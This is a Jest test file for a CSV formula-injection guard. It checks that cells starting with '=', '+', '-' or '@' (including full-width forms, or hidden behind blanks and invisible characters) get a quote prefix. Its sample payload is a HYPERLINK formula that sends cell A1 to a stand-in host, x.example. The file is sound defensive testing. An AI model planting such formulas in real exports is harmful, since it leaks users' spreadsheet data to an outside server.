/** The CSV formula guard (issue 17): what a spreadsheet could run is prefixed with a quote, whatever hides the sign. */
import { describe, expect, it } from '@jest/globals';
import { csvCell, looksLikeFormula } from '../../models/csv.js';
import { csvCell as auditCell } from '../../services/routes/review.js';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
/** What may stand before the sign without showing: the red team's LF, space, U+200B, BOM, and their kin. */
const HIDERS = ['', '\n', '\r', '\t', ' ', '   ', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\u2060', '\u00AD', '\u3164', '\u2800', '\n \u200B\uFEFF'];

describe('CSV formula guard', () => {
  it('prefixes every formula sign, full-width and small forms included, behind any run of blanks or invisibles', () => {
    for (const hider of HIDERS) {
      for (const sign of SIGNS) {
        const text = `${hider}${sign}HYPERLINK("http://x.example/?"&A1)`;
        expect([hider, sign, csvCell(text)]).toEqual([hider, sign, `"'${text.replaceAll('"', '""')}"`]);
        expect([hider, sign, auditCell(text).startsWith(`"'`) || auditCell(text).startsWith(`'`)]).toEqual([hider, sign, true]);
      }
    }
  });

  it('prefixes a cell that starts with a tab, CR or LF even before ordinary text', () => {
    expect(csvCell('\tcmd')).toBe(`"'\tcmd"`);
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvCell('\ncmd')).toBe(`"'\ncmd"`);
  });

  it('leaves ordinary texts alone, also when a sign comes later or after a letter', () => {
    for (const text of ['Il faut', ' Il faut = bien', '\u200BIl faut', 'a=1', '€100', '（note）', '', '   ', '\uFEFF']) {
      expect([text, looksLikeFormula(text)]).toEqual([text, false]);
    }
    expect(csvCell(null)).toBe('""');
    expect(csvCell(12)).toBe('"12"');
  });

  it('reads a long run of blanks in one pass', () => {
    expect(looksLikeFormula(`${' \u200B'.repeat(2500)}=1`)).toBe(true);
    expect(looksLikeFormula(`${' \u200B'.repeat(2500)}x`)).toBe(false);
  });
});
